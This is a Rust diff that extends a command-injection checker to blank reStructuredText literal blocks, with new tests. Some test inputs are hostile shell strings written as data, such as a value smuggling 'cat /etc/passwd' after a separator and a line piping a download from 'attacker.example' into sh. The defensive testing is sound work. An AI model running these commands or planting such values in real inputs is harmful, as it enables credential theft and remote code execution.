@@ -557,6 +557,8 @@ fn separators(
 
 static FENCE: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
     std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"```"));
+static LITERAL_BLOCK: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
+    std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"::"));
 static TABLE_ROW: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
     std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"\n|"));
 static INDENTED: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
@@ -568,6 +570,8 @@ static INDENTED: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
 ///
 /// - The code inside each fenced block: three or more backticks at the start of a line,
 ///   closed by a run as long at the start of a later line.
+/// - reStructuredText literal blocks: the lines indented under a paragraph that ends with `::`
+///   or under a `.. code-block::` (`.. code::`, `.. sourcecode::`) directive.
 /// - Lines that start with `|` (tables), after the first: a shell rejects such a line whole
 ///   ("syntax error near unexpected token `|'") before running any of it. On the value's
 ///   first line a `|` follows the command the value is pasted into.
@@ -575,6 +579,9 @@ fn markdown_blanked(value: &str) -> Option<String> {
     let b = value.as_bytes();
     let mut out: Option<Vec<u8>> = None;
     blank_fenced_code(b, &mut out);
+    if LITERAL_BLOCK.find(b).is_some() {
+        blank_literal_blocks(b, &mut out);
+    }
     // Rows are looked for only where a line can start with `|`: most values have none.
     if TABLE_ROW.find(b).is_some()
         || INDENTED.find(b).is_some() && memchr::memchr(b'|', b).is_some()
@@ -624,6 +631,36 @@ fn blank_fenced_code(b: &[u8], out: &mut Option<Vec<u8>>) {
         };
         blank(b, out, code, close);
         from = close + close_run;
+    }
+}
+
+/// Line by line: a line that opens a literal block, then every line indented deeper than it
+/// (or blank), up to the first that is not.
+fn blank_literal_blocks(b: &[u8], out: &mut Option<Vec<u8>>) {
+    let indent_of = |line: &[u8]| {
+        line.iter()
+            .take_while(|&&c| c == b' ' || c == b'\t')
+            .count()
+    };
+    // The indentation of the line that opened the block being read.
+    let mut opener: Option<usize> = None;
+    let mut start = 0;
+    while start < b.len() {
+        let end = memchr::memchr(b'\n', &b[start..]).map_or(b.len(), |e| start + e);
+        let line = &b[start..end];
+        let indent = indent_of(line);
+        let blank_line = indent == line.len() || line[indent..] == *b"\r";
+        match opener {
+            Some(o) if blank_line || indent > o => blank(b, out, start, end),
+            _ => {
+                let text = line[indent..].trim_ascii_end();
+                let directive = [&b".. code-block::"[..], b".. code::", b".. sourcecode::"]
+                    .iter()
+                    .any(|d| text.starts_with(d));
+                opener = (text.ends_with(b"::") || directive).then_some(indent);
+            }
+        }
+        start = end + 1;
     }
 }
 
@@ -1596,6 +1633,8 @@ mod tests {
             // A fence that does not close, or not at the start of a line, hides nothing.
             "```\nx; cat /etc/passwd",
             "x ```; cat /etc/passwd```",
+            // A literal block ends where the text comes back to the opener's indentation.
+            "see::\n\n    ok\nx; cat /etc/passwd",
             "```\nok\n``` ; cat /etc/passwd",
             // What a documented command line does not do.
             "aws s3 ls $(curl -s http://attacker.example/x | sh)",
@@ -1643,6 +1682,7 @@ mod tests {
             "Setup:\n```bash\necho 'hi\n```\nThen:\n```bash\ncd src && zip -r /tmp/app.zip . && cd -\n```\n",
             "- Messages with `eventType:\"Lambda\"` go to the Lambda function.",
             "5. Add `app.UsePathBase(\"/prod\");` in your `Program.cs` file.",
+            "Look at its contents::\n\n    $ unzip -l /tmp/app.zip | tail -n 5\n    $ cat sam.json | jq .\n\nThen deploy.",
             // A value that is a command line runs its own substitutions.
             "aws lambda invoke --function-name $(aws cloudformation describe-stacks --query x --output text) out.json",
         ] {
@@ -1665,6 +1705,14 @@ mod tests {
             "a\n```  \n           \n```\nb `x`\n  ````\n   \n  ````\n```\nopen"
         );
         // Fences that do not start a line, or do not close, blank nothing.
+        // reStructuredText literal blocks, up to the first line as shallow as their opener.
+        assert_eq!(
+            markdown_blanked(
+                "Run::\n\n    $ ls | wc -l\n\nDone; then\n.. code-block:: sh\n\n  a; id\nb"
+            )
+            .unwrap(),
+            "Run::\n\n                \n\nDone; then\n.. code-block:: sh\n\n       \nb"
+        );
         assert_eq!(markdown_blanked("x ```; id```"), None);
         assert_eq!(markdown_blanked("```\n; id"), None);
         assert_eq!(markdown_blanked("````\n; id\n```"), None);
